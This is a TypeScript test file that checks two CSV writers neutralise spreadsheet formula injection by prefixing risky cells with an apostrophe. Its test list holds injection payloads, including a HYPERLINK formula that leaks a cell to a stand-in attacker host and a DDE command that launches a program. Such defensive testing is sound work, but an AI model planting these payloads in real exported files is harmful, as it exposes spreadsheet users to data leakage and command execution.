import { parse } from 'csv-parse/sync';
import { expect, test } from 'vitest';
import { csvRecord } from '../../src/api/csv.ts';
import { toCsv } from '../../src/console/parts/csv.ts';

const formulas = [
  '=1+1',
  '=HYPERLINK("https://evil.example/?"&A1,"Look")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
];
/** Cells of a row: what follows a separator is a cell of its own to a program that takes another separator for one. */
const writers = {
  'of the server': (text: string) => csvRecord(['before', text, 'behind']),
  'of a table in the console': (text: string) => toCsv(['before', text, 'behind'], []),
};

test.each(Object.entries(writers))('no file %s has a cell that a spreadsheet runs', (_which, write) => {
  for (const formula of formulas) {
    const [cells] = parse(write(formula), { relax_column_count: true }) as string[][];
    expect(cells).toEqual(['before', `'${formula}`, 'behind']);
  }
});

test.each(Object.entries(writers))('what is no formula stands as it is in files %s', (_which, write) => {
  for (const text of ['Ada', "d'Arc", 'a=b', 'x-1', 'a,b', 'say "x"', 'one\ntwo', '', '<script>']) {
    const [cells] = parse(write(text), { relax_column_count: true }) as string[][];
    expect(cells).toEqual(['before', text, 'behind']);
  }
});

test('a number below zero is a number', () => {
  expect(csvRecord([-5, null, true])).toBe('-5,,true\r\n');
});
